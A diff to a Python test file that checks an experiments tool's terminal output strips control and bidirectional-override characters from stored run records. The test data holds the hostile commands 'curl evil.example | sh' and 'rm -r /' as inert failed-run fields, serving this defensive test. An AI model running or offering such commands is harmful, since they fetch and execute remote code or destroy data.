@@ -15,9 +15,11 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from experiments.documents import Problem
+from experiments.point import Point
 from experiments.printable import code_point, json_text, printable, printable_line, shown
 from experiments.results import Results
-from experiments.terminal import console, failed_lines, folder_command, next_lines, results_lines
+from experiments.results_lines import results_lines
+from experiments.terminal import console, failed_lines, folder_command, next_lines
 
 FORBIDDEN = {chr(n) for n in (*range(0x20), *range(0x7F, 0xA0), *range(0xD800, 0xE000))} - {"\n", "\t"} | set(
     "\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
@@ -85,7 +87,7 @@ def test_an_answer_as_json_reaches_a_reader_whatever_the_pipe(encoding: str) -> 
         words = [sys.executable, "-c", script.format(data=ascii(data))]
         found = subprocess.run(words, capture_output=True, env={**os.environ, "PYTHONIOENCODING": encoding}, check=True)
         told = json.loads(found.stdout.decode(encoding))
-        assert told == {"version": 1, **(data if isinstance(data, dict) else {"items": data})} and not found.stderr
+        assert told == {"version": 2, **(data if isinstance(data, dict) else {"items": data})} and not found.stderr
 
 
 @given(texts, st.integers(3, 80))
@@ -106,13 +108,16 @@ HOSTILE = "\x1b[31m[red]\u202e"
 
 
 def test_the_terminal_prints_no_record_as_it_is(tmp_path: Path) -> None:
-    about = {"runs": {"1f": [HOSTILE, 0], "2f": ["a b", 1]}, "arms": {HOSTILE: {}, "a b": {}}, "replications": 2}
+    points = {"1f": Point(HOSTILE, HOSTILE, 0), "2f": Point("", "a b", 1)}
+    about = {"runs": dict.fromkeys(points), "arms": {HOSTILE: {}, "a b": {}}, "replications": 2}
     failed = {
         "1f": {"arm": "x", "replication": 9, "error": f"one\n{HOSTILE}", "command": "curl evil.example | sh"},
         "2f": {"arm": "x", "replication": 9, "error": "", "command": "rm -r /"},
     }
     folder = tmp_path / "it's \x07 here"
-    stored = SimpleNamespace(folder=folder, about=about, names=(), failed=failed, made=0, seconds=0.0, hash="0f")
+    stored = SimpleNamespace(
+        folder=folder, about=about, names=(), failed=failed, made=0, seconds=0.0, hash="0f", point=points.__getitem__
+    )
     results = cast(Results, stored)
     told = "\n".join(failed_lines(results))
     assert not set(told) & FORBIDDEN and "[red]" in told
